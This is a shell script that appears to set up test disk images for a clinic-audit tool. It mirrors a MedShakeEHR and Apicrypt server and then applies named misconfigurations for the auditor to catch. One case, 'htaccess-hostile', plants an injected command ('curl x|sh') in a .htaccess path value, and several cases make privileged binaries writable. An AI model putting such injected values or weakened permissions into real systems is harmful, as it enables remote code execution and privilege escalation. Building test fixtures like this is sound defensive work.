#!/bin/sh
# Configures an image root (tests/image/build-image.sh) the way a clinic
# machine is set up, then optionally breaks it:
#
#   configure-clinic.sh ROOT [CASE]
#
# The layout follows MedShakeEHR's own installer (MedShakeEHR-base
# installer/debian-bash-installer.sh, 2020 versions: root /home/ehr in lower
# case, `SetEnv MEDSHAKEEHRPATH` as the first line of public_html/.htaccess,
# a vhost with DocumentRoot $msehrPath/public_html and AllowOverride all,
# a2ensite/a2dissite, the tree chowned to www-data) and the seeds
# (../shared/seeds/004_*: root-owned Apicrypt binaries granted to www-data
# through sudo, Clefs writable by the web server, PrivateTmp=false for a
# mod_php Apache, compagnonApicrypt running; 000_*: the e-KerMed sender
# whitelisted in SpamAssassin). The Apicrypt binaries are small stand-in
# executables (the real ones are not redistributable). Runs as root on the
# host: every path is written under ROOT, nothing is executed inside it.
set -eu
ROOT=$1
CASE=${2:-compliant}
EHR=/home/ehr
R() { printf '%s%s' "$ROOT" "$1"; }

# --- MedShakeEHR as its installer leaves it ---------------------------------
mkdir -p "$(R $EHR/public_html)" "$(R $EHR/config)" "$(R $EHR/apicrypt/bin)" "$(R $EHR/apicrypt/Clefs)"
printf '<?php // MedShakeEHR front controller stand-in\n' >"$(R $EHR/public_html/index.php)"
printf 'SetEnv MEDSHAKEEHRPATH %s\nOptions -Indexes\n<IfModule mod_rewrite.c>\nRewriteEngine On\n</IfModule>\n' "$EHR" \
  >"$(R $EHR/public_html/.htaccess)"
printf 'protocol: https\n' >"$(R $EHR/config/config.yml)"
chown -R 33:33 "$(R $EHR)"
chmod 755 "$(R $EHR)" "$(R $EHR/public_html)"
# The seed: the Apicrypt binaries (and every directory above them) belong to root.
chown 0:0 "$(R $EHR)" "$(R $EHR/apicrypt)" "$(R $EHR/apicrypt/bin)"
for b in apicrypt apicryptpj apiuncrypt apiuncryptpj ApiV2AESUtility compagnonApicrypt; do
  printf '#!/bin/sh\n# stand-in for the Apicrypt binary %s\nexit 0\n' "$b" >"$(R $EHR/apicrypt/bin/$b)"
  chown 0:0 "$(R $EHR/apicrypt/bin/$b)"
  chmod 0755 "$(R $EHR/apicrypt/bin/$b)"
done
# compagnonApicrypt keeps running (a daemon stand-in for the live tests).
printf '#!/bin/sh\nexec sleep infinity\n' >"$(R $EHR/apicrypt/bin/compagnonApicrypt)"
chown 33:33 "$(R $EHR/apicrypt/Clefs)"
chmod 0700 "$(R $EHR/apicrypt/Clefs)"

# --- Apache: the installer's vhost (2020: no SetEnv in it) ------------------
cat >"$(R /etc/apache2/sites-available/msehr.local.conf)" <<VHOST
<VirtualHost *:80>
    ServerName msehr.local
    ServerAlias msehr ehr medshakeehr MedShakeEHR
    DocumentRoot $EHR/public_html
    <Directory $EHR/public_html>
        Options FollowSymLinks
        AllowOverride all
        Require all granted
    </Directory>
    ErrorLog /var/log/apache2/error.msehr.local.log
    CustomLog /var/log/apache2/access.msehr.local.log combined
</VirtualHost>
VHOST
ln -sf ../sites-available/msehr.local.conf "$(R /etc/apache2/sites-enabled/msehr.local.conf)"
rm -f "$(R /etc/apache2/sites-enabled/000-default.conf)"
ln -sf ../mods-available/rewrite.load "$(R /etc/apache2/mods-enabled/rewrite.load)"

# --- sudo: the seed's four grants --------------------------------------------
cat >"$(R /etc/sudoers.d/apicrypt)" <<SUDO
www-data ALL=(root) NOPASSWD: $EHR/apicrypt/bin/apicrypt
www-data ALL=(root) NOPASSWD: $EHR/apicrypt/bin/apicryptpj
www-data ALL=(root) NOPASSWD: $EHR/apicrypt/bin/apiuncrypt
www-data ALL=(root) NOPASSWD: $EHR/apicrypt/bin/apiuncryptpj
SUDO
chmod 0440 "$(R /etc/sudoers.d/apicrypt)"

# --- systemd: PrivateTmp=false for Apache, compagnonApicrypt enabled --------
mkdir -p "$(R /etc/systemd/system/apache2.service.d)" "$(R /etc/systemd/system/multi-user.target.wants)"
printf '[Service]\nPrivateTmp=false\n' >"$(R /etc/systemd/system/apache2.service.d/privatetmp.conf)"
cat >"$(R /etc/systemd/system/compagnonApicrypt.service)" <<UNIT
[Unit]
Description=Apicrypt v2 companion (stand-in)

[Service]
ExecStart=$EHR/apicrypt/bin/compagnonApicrypt

[Install]
WantedBy=multi-user.target
UNIT
ln -sf /etc/systemd/system/compagnonApicrypt.service \
  "$(R /etc/systemd/system/multi-user.target.wants/compagnonApicrypt.service)"

# --- SpamAssassin: the e-KerMed invitation sender ---------------------------
printf '\n# e-KerMed teleconsultation invitations (seed 000, section 3)\nwhitelist_from votre-teleconsultation@visiotlm.esante-bretagne.fr\n' \
  >>"$(R /etc/spamassassin/local.cf)"

# --- clinic-audit's own site configuration on that machine ------------------
mkdir -p "$(R /etc/clinic-audit)"
cat >"$(R /etc/clinic-audit/agent.conf)" <<CONF
<?xml version="1.0" encoding="UTF-8"?>
<agent-config xmlns="urn:clinic-audit:config:1">
  <policy>apicrypt-v1</policy>
  <policy>apicrypt-v2</policy>
  <policy>ekermed</policy>
  <variable name="web_user">www-data</variable>
  <!-- the MedShakeEHR server: no teleconsultation browser here (checks/browser) -->
  <variable name="ekermed_consultation_workstation">false</variable>
  <reports keep="30"/>
</agent-config>
CONF

# --- the breaks ---------------------------------------------------------------
case $CASE in
  compliant) ;;
  binary-missing) rm "$(R $EHR/apicrypt/bin/apiuncryptpj)" ;;
  binary-www-data-owned) chown 33:33 "$(R $EHR/apicrypt/bin/apicrypt)" ;;
  binary-world-writable) chmod 0777 "$(R $EHR/apicrypt/bin/apiuncrypt)" ;;
  bin-dir-www-data) chown 33:33 "$(R $EHR/apicrypt/bin)" ;;
  aes-not-executable) chmod 0644 "$(R $EHR/apicrypt/bin/ApiV2AESUtility)" ;;
  clefs-root-owned) chown 0:0 "$(R $EHR/apicrypt/Clefs)"; chmod 0755 "$(R $EHR/apicrypt/Clefs)" ;;
  clefs-missing) rmdir "$(R $EHR/apicrypt/Clefs)" ;;
  privatetmp-default) rm "$(R /etc/systemd/system/apache2.service.d/privatetmp.conf)" ;;
  compagnon-disabled) rm "$(R /etc/systemd/system/multi-user.target.wants/compagnonApicrypt.service)" ;;
  compagnon-masked)
    rm "$(R /etc/systemd/system/multi-user.target.wants/compagnonApicrypt.service)"
    mv "$(R /etc/systemd/system/compagnonApicrypt.service)" "$(R /lib/systemd/system/compagnonApicrypt.service)"
    ln -s /dev/null "$(R /etc/systemd/system/compagnonApicrypt.service)" ;;
  grants-missing) rm "$(R /etc/sudoers.d/apicrypt)" ;;
  grants-dotconf) mv "$(R /etc/sudoers.d/apicrypt)" "$(R /etc/sudoers.d/apicrypt.conf)" ;;
  # The vhost (root-owned) names another root than the .htaccess (www-data's).
  vhost-disagrees)
    sed -i "s|^    DocumentRoot|    SetEnv MEDSHAKEEHRPATH /srv/ehr\n    DocumentRoot|" "$(R /etc/apache2/sites-available/msehr.local.conf)" ;;
  # www-data plants shell syntax in the .htaccess.
  htaccess-hostile)
    printf 'SetEnv MEDSHAKEEHRPATH "/home/ehr;curl x|sh"\n' >"$(R $EHR/public_html/.htaccess)" ;;
  # A php_admin_value in the vhost (through its sites-enabled symlink) moves PHP's temp dir.
  php-admin-value-vhost)
    sed -i "s|^    DocumentRoot|    php_admin_value sys_temp_dir /var/tmp/ehr\n    DocumentRoot|" "$(R /etc/apache2/sites-available/msehr.local.conf)" ;;
  # For the live systemd tests: a unit that fails when started at boot.
  live-failed-unit)
    printf '[Unit]\nDescription=fails at start\n[Service]\nExecStart=/bin/false\n[Install]\nWantedBy=multi-user.target\n' \
      >"$(R /etc/systemd/system/broken.service)"
    ln -sf /etc/systemd/system/broken.service "$(R /etc/systemd/system/multi-user.target.wants/broken.service)" ;;
  # Apache ignores the .htaccess: discovery must too.
  allowoverride-none)
    sed -i 's|AllowOverride all|AllowOverride None|' "$(R /etc/apache2/sites-available/msehr.local.conf)" ;;
  *) echo "configure-clinic.sh: unknown case $CASE" >&2; exit 64 ;;
esac
